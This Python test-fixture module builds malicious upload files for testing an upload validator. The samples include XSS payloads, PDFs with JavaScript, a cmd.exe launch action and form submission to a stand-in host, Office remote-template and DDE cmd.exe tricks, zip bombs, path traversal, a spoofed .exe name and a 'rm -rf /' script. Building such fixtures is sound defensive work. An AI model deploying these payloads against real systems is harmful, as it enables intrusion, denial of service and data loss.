"""Files that somebody might upload on purpose, made here byte by byte.

`DOCUMENTS` and `IMAGES` are to be refused. `DISGUISED` are real pictures with something hidden in
or behind them: they are taken, without it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

Made = Callable[[], bytes]
SCRIPT = b"<script>alert(1)</script>"
# Said by everything that is hidden, so that a test can look for it.
SECRET = b"ukryte-0d1f"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}
BODY = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def zipped(parts: dict[str, bytes | str]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def office(kind: str = "docx", main: str = "", **parts: bytes | str) -> bytes:
    """A small OOXML file; "word__x.xml" in `parts` is word/x.xml, "__" a slash."""
    types = (
        f'<Types><Override PartName="/{BODY[kind]}" ContentType="{main or MAIN[kind]}"/></Types>'
    )
    named = {name.replace("__", "/"): part for name, part in parts.items()}
    return zipped({"[Content_Types].xml": types, BODY[kind]: "<w/>"} | named)


def relationship(kind: str, target: str) -> str:
    return (
        f'<Relationships><Relationship Id="r1" Type="{REL}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


def linking(kind: str, target: str) -> Made:
    return lambda: office(**{"word___rels__document.xml.rels": relationship(kind, target)})


def open_document(kind: str = "text", **parts: bytes | str) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        mime = f"application/vnd.oasis.opendocument.{kind}"
        archive.writestr("mimetype", mime, zipfile.ZIP_STORED)
        for name, part in (
            {"META-INF/manifest.xml": "<m/>", "content.xml": "<c/>"}
            | {name.replace("__", "/"): part for name, part in parts.items()}
        ).items():
            archive.writestr(name, part)
    return content.getvalue()


def pdf(change: Callable[[PdfWriter], object] = lambda writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    change(writer)
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


def acting(key: str, kind: str, **more: str) -> Made:
    """A PDF whose catalogue says under `key` to do `kind`."""

    def change(writer: PdfWriter) -> None:
        action = {NameObject("/S"): NameObject(f"/{kind}")}
        action |= {NameObject(f"/{k}"): TextStringObject(v) for k, v in more.items()}
        holder = DictionaryObject({NameObject("/WC"): DictionaryObject(action)})
        value = DictionaryObject(action) if key == "OpenAction" else holder
        writer._root_object[NameObject(f"/{key}")] = writer._add_object(value)

    return lambda: pdf(change)


def pdf_of(*objects: str, tail: bytes = b"") -> bytes:
    """A PDF written by hand; the first object is the catalogue."""
    content, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        places.append(len(content))
        content += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    start = len(content)
    content += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    content += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    trailer = f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n"
    return content + trailer.encode() + tail


PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def locked_pdf() -> bytes:
    return pdf(lambda writer: writer.encrypt("hasło", algorithm="RC4-128"))


def bomb_pdf() -> bytes:
    """A table of references that unpacks to 300 MB, read by everybody who opens the file."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(300)) + packer.flush()
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    table = f"<</Type/XRef/Size 5/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length {len(packed)}>>"
    stream = b"4 0 obj\n" + table.encode() + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return body + stream + f"startxref\n{len(body)}\n%%EOF\n".encode()


def deep_pdf() -> bytes:
    deep = "[" * 50_000 + "]" * 50_000
    return pdf_of("<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, deep)


def bomb_zip() -> bytes:
    return office("xlsx", xl__sheet1=bytes(60 * 1024 * 1024))


def lying_zip() -> bytes:
    """The directory says that a part of 8 MB has 10 bytes, so that its ratio looks fine."""
    content = bytearray(office(word__big=bytes(8 * 1024 * 1024), word__x="x"))
    true = struct.pack("<L", 8 * 1024 * 1024)
    return bytes(content.replace(true, struct.pack("<L", 10)))


def overlapping_zip() -> bytes:
    """Two hundred directory entries for the same bytes, as in the bombs of D. Fifield."""
    content = office(word__big=bytes(range(256)) * 4000)
    end = content.rfind(b"PK\x05\x06")
    start = struct.unpack("<L", content[end + 16 : end + 20])[0]
    entry = content[content.rfind(b"PK\x01\x02") : end]
    more = b"".join(entry.replace(b"big", b"%03d" % number) for number in range(200))
    directory = content[start:end] + more
    closing = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 203, 203, len(directory), start, 0)
    return content[:start] + directory + closing


def encrypted_zip() -> bytes:
    content = bytearray(office())
    for place in [i for i in range(len(content)) if content[i : i + 4] == b"PK\x01\x02"]:
        content[place + 8] |= 1
    return bytes(content)


def image(kind: str, size: tuple[int, int] = (8, 8), **options: object) -> bytes:
    content = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(content, kind, **options)
    return content.getvalue()


def flood_png() -> bytes:
    """A header of 50 000 by 50 000 pixels; the pixels never come."""
    header = struct.pack(">2L5B", 50_000, 50_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"x"))


def chunk(kind: bytes, data: bytes) -> bytes:
    sealed = kind + data
    return struct.pack(">L", len(data)) + sealed + struct.pack(">L", zlib.crc32(sealed))


def animation(frames: int, size: tuple[int, int] = (4, 4)) -> bytes:
    pictures = [Image.new("RGB", size, (n % 256, n // 256, 9)) for n in range(frames)]
    content = io.BytesIO()
    pictures[0].save(content, "GIF", save_all=True, append_images=pictures[1:])
    return content.getvalue()


def with_exif(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = SECRET.decode()
    exif.get_ifd(0x8825)[2] = (52.0, 13.0, 56.0)
    return image(kind, (16, 8), exif=exif)


def png_with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SECRET.decode() + SCRIPT.decode())
    notes.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    return image("PNG", pnginfo=notes)


DOCUMENTS: dict[str, Made] = {
    "strona.html": lambda: b"<!doctype html>" + SCRIPT,
    "obraz.svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "umowa\u202efdp.exe": lambda: b"MZ" + bytes(100),
    "umowa.pdf.exe": lambda: b"MZ" + bytes(100),
    "program.pdf": lambda: b"MZ" + bytes(100),
    "html jako.pdf": lambda: b"<html>" + SCRIPT + b"%PDF-1.7 %%EOF",
    "html w glowie.pdf": lambda: pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n<html>" + SCRIPT, 1),
    "pdf i zip.pdf": lambda: pdf() + office(),
    "zip pod koniec.pdf": lambda: pdf().replace(b"\nstartxref", b"\n" + office() + b"\nstartxref"),
    "zip przed.pdf": lambda: office() + pdf(),
    "skrypt.pdf": acting("OpenAction", "JavaScript", JS="app.alert(1)"),
    "skrypt przy zamknieciu.pdf": acting("AA", "JavaScript", JS="app.alert(1)"),
    "skrypt zakodowany.pdf": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R/AA<</O<</S/J#61vaScr#69pt/#4AS(app.alert\\(1\\))>>>>>>",
        PAGES,
        PAGE,
    ),
    "skrypt posrednio.pdf": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R/AA<</O 4 0 R>>>>", PAGES, PAGE, "<</S 5 0 R>>", "/Rendition"
    ),
    "skrypt w starej wersji.pdf": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, "% 9 0 obj <</S /JavaScript /X 1>>"
    ),
    "program startowy.pdf": acting("OpenAction", "Launch", F="cmd.exe"),
    "wysyla formularz.pdf": acting("AA", "SubmitForm", F="http://zly.example/"),
    "odnosnik ze skryptem.pdf": acting("AA", "URI", URI="javascript:alert(1)"),
    "film.pdf": acting("AA", "Movie"),
    "zalacznik.pdf": lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")),
    "xfa.pdf": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA(template)>>>>", PAGES, PAGE
    ),
    "bogate media.pdf": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R/X<</Subtype/RichMedia>>>>", PAGES, PAGE
    ),
    "haslo.pdf": locked_pdf,
    "bez stron.pdf": lambda: b"%PDF-1.7\n%%EOF",
    "petla stron.pdf": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"
    ),
    "bomba.pdf": bomb_pdf,
    "gleboki.pdf": deep_pdf,
    "makro.docx": lambda: office(**{"word__vbaProject.bin": b"x"}),
    "makro.xlsx": lambda: office("xlsx", MAIN["xlsx"].replace("sheet.main", "sheet.macroEnabled")),
    "inny rodzaj.docx": lambda: office("xlsx"),
    "szablon z sieci.docx": linking("attachedTemplate", "https://zly.example/t.dotm"),
    "obraz z sieci.docx": linking("image", "https://zly.example/pixel.png"),
    "odnosnik do pliku.docx": linking("hyperlink", "file://///10.0.0.1/share"),
    "odnosnik ze skryptem.docx": linking("hyperlink", "javascript:alert(1)"),
    "obiekt ole.docx": lambda: office(**{"word__embeddings__oleObject1.bin": b"x"}),
    "formant.pptx": lambda: office("pptx", **{"ppt__activeX__activeX1.xml": "<x/>"}),
    "archiwum w srodku.docx": lambda: office(**{"word__media__dane.zip": office()}),
    "program w srodku.docx": lambda: office(**{"word__media__obraz.png": b"MZ" + bytes(99)}),
    "makro w wykresie.docx": lambda: office(
        **{"word__embeddings__Arkusz.xlsx": office("xlsx", **{"xl__vbaProject.bin": b"x"})}
    ),
    "dde.docx": lambda: office(word__x="", **{"word__h.xml": "<w:instrText> DDEAUTO c:\\cmd.exe"}),
    "encje.docx": lambda: zipped(
        {
            "[Content_Types].xml": '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
            "word/document.xml": "<w/>",
        }
    ),
    "bomba.xlsx": bomb_zip,
    "klamiacy.docx": lying_zip,
    "nakladki.docx": overlapping_zip,
    "tysiace czesci.xlsx": lambda: office("xlsx", **{f"xl__{n}": "" for n in range(5000)}),
    "zaszyfrowany.docx": encrypted_zip,
    "stary z haslem.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "wyjscie.docx": lambda: office(**{"..__..__x.txt": "x"}),
    "dopisany.docx": lambda: office() + SCRIPT,
    "poprzedzony.docx": lambda: SCRIPT + office(),
    "urwany.docx": lambda: office()[:-40],
    "makro.odt": lambda: open_document(**{"Basic__Standard__m.xml": "<x/>"}),
    "skrypt.odt": lambda: open_document(**{"content.xml": "<c><script:event-listener/></c>"}),
    "obraz z sieci.odt": lambda: open_document(
        **{"content.xml": '<c><draw:image xlink:href="http://zly.example/p.png"/></c>'}
    ),
    "haslo.ods": lambda: open_document(
        "spreadsheet", **{"META-INF__manifest.xml": '<m xmlns:a="a"><a:encryption-data/></m>'}
    ),
    "arkusz jako.odt": lambda: open_document("spreadsheet"),
    "strona.txt": lambda: b"\xef\xbb\xbf  \n<HTML>" + SCRIPT,
    "strona.csv": lambda: b"a;b\n<script>alert(1)</script>;2\n",
    "zera.txt": lambda: b"tekst\x00tekst",
    "utf16.csv": lambda: "a;b".encode("utf-16"),
    "obraz jako.txt": lambda: image("GIF"),
    "program.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
}
IMAGES: dict[str, Made] = {
    "obraz.svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "svg jako.png": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "html jako.jpg": lambda: b"<html>" + SCRIPT,
    "skrypt jako.gif": lambda: b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)",
    "gif jako.png": lambda: image("GIF"),
    "photoshop jako.jpg": lambda: b"8BPS\x00\x01" + bytes(60),
    "powodz.png": flood_png,
    "powodz klatek.gif": lambda: animation(300),
    "urwany.jpg": lambda: image("JPEG", (400, 400))[:900],
    "pusty.webp": lambda: b"",
}
DISGUISED: dict[str, Made] = {
    "gps.jpg": lambda: with_exif("JPEG"),
    "gps.png": lambda: with_exif("PNG"),
    "gps.webp": lambda: with_exif("WEBP"),
    "komentarz.jpg": lambda: image("JPEG", comment=SECRET + SCRIPT),
    "opis.png": png_with_text,
    "komentarz.gif": lambda: image("GIF", comment=SECRET + SCRIPT),
    "strona za obrazem.jpg": lambda: image("JPEG") + SECRET + SCRIPT,
    "archiwum za obrazem.png": lambda: image("PNG") + SECRET + office(),
    "skrypt za obrazem.gif": lambda: image("GIF") + SECRET + SCRIPT,
    "dwa.jpg.exe.jpg": lambda: image("JPEG") + SECRET,
}


def corpus() -> Iterator[tuple[str, bytes]]:
    for files in (DOCUMENTS, IMAGES, DISGUISED):
        for name, made in files.items():
            yield name, made()
